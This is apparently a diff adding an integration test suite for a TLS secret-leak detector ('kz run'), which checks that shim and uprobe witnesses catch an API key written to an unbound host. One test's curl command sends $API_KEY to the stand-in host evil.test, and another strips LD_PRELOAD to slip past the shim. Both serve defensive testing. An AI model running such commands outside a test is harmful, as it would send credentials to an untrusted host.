@@ -1,0 +1,215 @@
+"""The default witnesses of `kz run` (docs/sensors.md): each TLS write is inspected once,
+by the cheapest witness that can see it. End to end, as root, with real clients and a
+real TLS server on loopback:
+
+* standard mode: the shim is preloaded and witnesses in process; a value written by
+  curl or python to a host it is not bound to is a "leak" with via "shim"; with
+  --on-leak=kill the write itself fails and nothing reaches the server;
+* a child started without the shim (LD_PRELOAD removed) is covered by uprobes
+  installed for that process: its leak is recorded via "tls-tap";
+* a process outside the run is not touched: the breakpoint (int3) is in the run's
+  uncovered process's copy of SSL_write, not in the outside process's; with
+  --sensors=full it is in both (the independent witness on every write).
+
+Skipped with `SKIP:` when `kz doctor` reports the TLS tap unavailable.
+"""
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import threading
+import unittest
+
+sys.path.insert(0, os.path.dirname(__file__))
+from kzt import KZ, PY  # noqa: E402
+from test_sensors import LEAKER, WHY, SensorCase  # noqa: E402
+
+# Prints "pid address-of-SSL_write" into the fifo argv[1], then waits for EOF on the
+# fifo argv[2] (the test's signal to exit). The address is the process's own libssl's.
+HOLDER = r'''
+import ctypes, os, ssl, sys
+addr = ctypes.cast(ctypes.CDLL("libssl.so.3").SSL_write, ctypes.c_void_p).value
+with open(sys.argv[1], "w") as f:
+    f.write("%d %d\n" % (os.getpid(), addr))
+with open(sys.argv[2]) as f:
+    f.read()
+'''
+
+
+def read_ready(path, proc):
+    """The line a holder wrote into fifo `path`; "" when `proc` (kz) exits first (then
+    nothing will write: a watcher opens the fifo itself, which ends the wait)."""
+    def unblock():
+        proc.wait()
+        try:
+            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
+        except OSError:
+            pass   # no reader any more: the line was read
+    threading.Thread(target=unblock, daemon=True).start()
+    with open(path) as f:
+        return f.read()
+
+
+def first_byte(pid, addr):
+    with open("/proc/%d/mem" % pid, "rb") as f:
+        f.seek(addr)
+        return f.read(1)[0]
+
+
+INT3 = 0xCC
+NODE = shutil.which("node")
+CLIENTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients")
+
+
+@unittest.skipIf(WHY, "TLS tap %s" % WHY)
+class WitnessTest(SensorCase):
+    def summary(self):
+        return self.assertAudited("sensor.summary")[0]
+
+    def test_shim_witnesses_curl_and_python_in_standard_mode(self):
+        script = self.write("leaker.py", LEAKER)
+        # curl names the unbound host evil.test (SNI) on the same server.
+        cmd = ('curl -sS --fail -k --max-time 20 --http1.1 --resolve evil.test:%d:127.0.0.1 '
+               '-H "X-Key: $API_KEY" https://evil.test:%d/v1/curl >/dev/null; '
+               '%s %s %s/v1/py-leak %s/v1/py-bound "%s"'
+               % (self.port, self.port, PY, script, self.evil, self.good, self.ca["ca"]))
+        r = self.run_std("/bin/bash", "-c", cmd)
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        leaks = self.assertAudited("leak", secret="API_KEY")
+        by_exe = {os.path.basename(l.get("exe", "")): l for l in leaks}
+        self.assertEqual(len(leaks), 2, self.diag(r))
+        curl = by_exe["curl"]
+        self.assertEqual(curl.get("via"), "shim")
+        self.assertEqual(curl.get("host"), "evil.test")
+        self.assertEqual(curl.get("function"), "SSL_write")
+        self.assertEqual(curl.get("lineage"), ["bash", "curl"])
+        py = [l for l in leaks if l is not curl][0]
+        self.assertEqual(py.get("via"), "shim")
+        self.assertEqual(py.get("host"), "127.0.0.1")
+        self.assertEqual(py.get("peer"), self.peer)
+        self.assertEqual(py.get("function"), "SSL_write_ex")
+        self.assertEqual(py.get("decision"), "audit")
+        s = self.summary()
+        self.assertEqual(s.get("mode"), "default")
+        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 1}, s.get("uses"), s)
+        self.assertGreaterEqual(s["witnesses"]["shim"], 3, s)
+        self.assertEqual(s["witnesses"]["uprobe"], 0, s)
+        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
+        self.assertEqual(programs.get("curl"), "shim", s)
+        self.assertEqual(programs.get(os.path.basename(PY)), "shim", s)
+        self.assertNoCanaryInAudit()
+
+    def test_on_leak_kill_refuses_the_write_in_process(self):
+        script = self.write("leaker.py", LEAKER)
+        r = self.run_std(PY, script, self.evil + "/v1/kill-first", self.evil + "/v1/kill-second", self.ca["ca"],
+                         flags=["--on-leak=kill"])
+        # The write failed (python raises), the process was not killed.
+        self.assertEqual(r.returncode, 1, self.diag(r))
+        self.assertIn("Error", r.stderr)
+        self.assertEqual(self.records(self.rec, "/v1/kill-"), [], self.diag(r))
+        leak = self.assertAudited("leak", secret="API_KEY", decision="kill")
+        self.assertEqual(len(leak), 1, self.diag(r))
+        self.assertEqual(leak[0].get("via"), "shim")
+        self.assertIn("refused", leak[0].get("reason", ""))
+        self.assertNoCanaryInAudit()
+
+    def test_on_leak_kill_lets_bound_traffic_through(self):
+        script = self.write("leaker.py", LEAKER)
+        r = self.run_std(PY, script, self.good + "/v1/ok-1", self.good + "/v1/ok-2", self.ca["ca"],
+                         flags=["--on-leak=kill"])
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        self.assertEqual(len(self.records(self.rec, "/v1/ok-")), 2)
+        self.assertFalse(self.audit_events("leak"), self.diag(r))
+
+    def test_child_without_the_shim_is_caught_by_uprobes(self):
+        script = self.write("leaker.py", LEAKER)
+        cmd = 'env -u LD_PRELOAD %s %s %s/v1/a %s/v1/b "%s"' % (PY, script, self.evil, self.good, self.ca["ca"])
+        r = self.run_std("/bin/bash", "-c", cmd)
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        leaks = self.assertAudited("leak", secret="API_KEY")
+        self.assertEqual(len(leaks), 1, self.diag(r))
+        self.assertEqual(leaks[0].get("via"), "tls-tap")
+        self.assertEqual(leaks[0].get("host"), "127.0.0.1")
+        self.assertEqual(leaks[0].get("lineage")[-1], os.path.basename(PY))
+        s = self.summary()
+        self.assertGreaterEqual(s["witnesses"]["uprobe"], 2, s)
+        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
+        self.assertEqual(programs.get(os.path.basename(PY)), "uprobe", s)
+        self.assertEqual(programs.get("bash"), "shim", s)
+        self.assertNoCanaryInAudit()
+
+    @unittest.skipIf(NODE is None, "node is not installed")
+    def test_a_program_with_its_own_tls_is_caught_by_uprobes(self):
+        # node carries its own OpenSSL: the shim is loaded (and says hello) but node's
+        # writes never reach its hooks, so node's own SSL_write gets the uprobes.
+        env = dict(self.kenv, NODE_EXTRA_CA_CERTS=self.ca["ca"])
+        r = self.kz("run", "--audit-log", self.audit_path, "--", NODE, os.path.join(CLIENTS, "node_client.mjs"),
+                    "https", self.evil + "/v1/node", "API_KEY", env=env, timeout=120)
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        # node writes a request in several SSL_writes, through its own transport: the
+        # tap sees no peer (host ""), which no secret is bound to.
+        leaks = self.assertAudited("leak", secret="API_KEY")
+        self.assertTrue(leaks, self.diag(r))
+        for leak in leaks:
+            self.assertEqual(leak.get("via"), "tls-tap")
+            self.assertEqual(leak.get("exe"), NODE)
+            self.assertEqual(leak.get("lineage"), [os.path.basename(NODE)])
+        s = self.summary()
+        self.assertTrue(any(t.endswith("(its own TLS library)") for t in s.get("taps", [])), s)
+        programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
+        self.assertEqual(programs.get(os.path.basename(NODE)), "uprobe", s)
+        self.assertNoCanaryInAudit()
+
+    def breakpoints(self, flags):
+        """(run child's first byte of SSL_write, outside process's) while both live."""
+        d = tempfile.mkdtemp(dir=self.dir)
+        fifos = {}
+        for name in ("out-ready", "out-go", "run-ready", "run-go"):
+            fifos[name] = os.path.join(d, name)
+            os.mkfifo(fifos[name])
+        holder = self.write("holder.py", HOLDER)
+        outside = subprocess.Popen([PY, holder, fifos["out-ready"], fifos["out-go"]])
+        kz = None
+        try:
+            with open(fifos["out-ready"]) as f:
+                out_pid, out_addr = map(int, f.read().split())
+            args = ["run", "--audit-log", self.audit_path, *flags, "--", "env", "-u", "LD_PRELOAD",
+                    PY, holder, fifos["run-ready"], fifos["run-go"]]
+            kz = subprocess.Popen([KZ, *args], env=self.kenv, cwd=self.dir, stdout=subprocess.PIPE,
+                                  stderr=subprocess.PIPE)
+            line = read_ready(fifos["run-ready"], kz)
+            if not line:
+                out, err = kz.communicate(timeout=60)
+                self.fail("kz exited %d before its child was ready:\n%s" % (kz.returncode, err.decode()[-2000:]))
+            run_pid, run_addr = map(int, line.split())
+            # The uprobe is attached on the run's exec, off the child's path: wait for it
+            # (bounded; no sleep).
+            deadline = 200000
+            while first_byte(run_pid, run_addr) != INT3 and deadline > 0:
+                os.sched_yield()
+                deadline -= 1
+            return first_byte(run_pid, run_addr), first_byte(out_pid, out_addr)
+        finally:
+            for name in ("run-go", "out-go"):
+                if name == "run-go" and (kz is None or kz.poll() is not None):
+                    continue
+                with open(fifos[name], "w"):
+                    pass
+            outside.wait(timeout=60)
+            if kz is not None:
+                kz.communicate(timeout=60)
+
+    def test_process_outside_the_run_takes_no_trap(self):
+        run_byte, outside_byte = self.breakpoints([])
+        self.assertEqual(run_byte, INT3, "the run's process without the shim has no uprobe")
+        self.assertNotEqual(outside_byte, INT3, "a process outside the run has the run's breakpoint")
+
+    def test_sensors_full_probes_every_process_of_the_host(self):
+        run_byte, outside_byte = self.breakpoints(["--sensors=full"])
+        self.assertEqual(run_byte, INT3)
+        self.assertEqual(outside_byte, INT3)
+
+
+if __name__ == "__main__":
+    unittest.main()
